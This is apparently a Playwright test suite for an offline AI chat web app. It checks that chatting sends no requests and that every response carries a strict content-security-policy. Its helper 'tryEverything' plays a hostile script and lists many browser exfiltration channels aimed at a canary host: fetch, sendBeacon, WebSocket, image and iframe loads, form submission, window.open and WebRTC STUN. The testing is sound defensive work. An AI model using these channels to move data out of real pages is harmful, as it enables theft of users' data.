import { ChatPage, expect, startFaultyServer, test } from '../kit/index.ts';

test('chatting sends nothing anywhere, online or offline', async ({ profile, canary, faultyServer }) => {
  // Every host name leads to the canary: whatever leaves is seen, wherever it was bound for.
  const context = await profile.open({ extraArguments: canary.catchAllArguments });
  const requests: string[] = [];
  const chat = await new ChatPage(await context.newPage()).open(faultyServer.url);
  await chat.untilReady();
  await chat.page.evaluate(() => navigator.serviceWorker.ready);
  const own = faultyServer.weightRequests.length;
  context.on('request', (request) => requests.push(request.url()));

  await chat.ask('My password is tangerine-42. What is the capital of France?');
  await chat.finishedAnswer();
  await expect(chat.seal).toContainText('0 requests');
  await context.setOffline(true);
  await chat.ask('And of Italy?');
  await chat.finishedAnswer();

  expect(requests, 'the page asks its own server for nothing either').toEqual([]);
  expect(faultyServer.weightRequests).toHaveLength(own);
  expect(canary.total(), JSON.stringify(canary.hits())).toBe(0);
  await expect(chat.seal).toContainText('0 requests');
});

test.describe('a hostile script', () => {
  // Each attempt is refused loudly, which is what should happen.
  test.use({ allowedErrors: [/./] });

  test('in the page reaches no other server', async ({ page, canary }) => {
    await new ChatPage(page).open();
    await page.evaluate(tryEverything, { http: canary.httpUrl, webSocket: canary.webSocketUrl, stun: canary.stunUrl });
    await page.waitForTimeout(1500);
    expect(canary.total(), JSON.stringify(canary.hits())).toBe(0);
  });

  test('in a worker reaches no other server', async ({ page, canary }) => {
    await (await new ChatPage(page).open()).untilReady();
    const addresses = { http: canary.httpUrl, webSocket: canary.webSocketUrl };
    // Compute threads sleep inside WebAssembly and run no script that could be injected.
    const workers = page.workers().filter((worker) => !worker.url().includes('compute'));
    expect(workers.length).toBeGreaterThan(0);
    for (const worker of workers) {
      await worker.evaluate(async ({ http, webSocket }) => {
        await fetch(http, { mode: 'no-cors' }).catch(() => {});
        try {
          new WebSocket(webSocket);
        } catch {}
      }, addresses);
    }
    await page.waitForTimeout(1000);
    expect(canary.total(), JSON.stringify(canary.hits())).toBe(0);
  });
});

test('every response carries the wall, worker scripts and errors included', async ({ page }) => {
  const server = await startFaultyServer();
  const bare: string[] = [];
  page.on('response', (response) => {
    const headers = response.headers();
    if (!headers['content-security-policy'] || !headers['connection-allowlist']) bare.push(response.url());
  });
  const chat = await new ChatPage(page).open(server.url);
  await chat.untilReady();
  const missing = await page.request.get(`${server.url}no-such-file.js`);
  expect(missing.status()).toBe(404);
  expect(missing.headers()['content-security-policy']).toContain("default-src 'none'");
  expect(bare).toEqual([]);
  await server.close();
});

/** Every way out that a page has; each failure is expected, so none is reported. */
async function tryEverything({
  http,
  webSocket,
  stun,
}: {
  http: string;
  webSocket: string;
  stun: string;
}): Promise<void> {
  const attempt = (run: () => unknown) => {
    try {
      void Promise.resolve(run()).catch(() => {});
    } catch {}
  };
  attempt(() => fetch(http, { mode: 'no-cors' }));
  attempt(() => navigator.sendBeacon(http, 'secret'));
  attempt(() => new WebSocket(webSocket));
  attempt(() => new EventSource(http));
  attempt(() => {
    new Image().src = `${http}?secret`;
  });
  for (const [tag, attribute] of [
    ['link', 'href'],
    ['iframe', 'src'],
    ['video', 'src'],
    ['object', 'data'],
  ] as const) {
    attempt(() => {
      const element = document.createElement(tag);
      if (tag === 'link') element.setAttribute('rel', 'stylesheet');
      element.setAttribute(attribute, `${http}?secret`);
      document.body.append(element);
    });
  }
  attempt(() => {
    const form = document.createElement('form');
    form.action = http;
    form.target = '_blank';
    document.body.append(form);
    form.submit();
  });
  attempt(() => window.open(`${http}?secret`));
  attempt(async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
  });
}
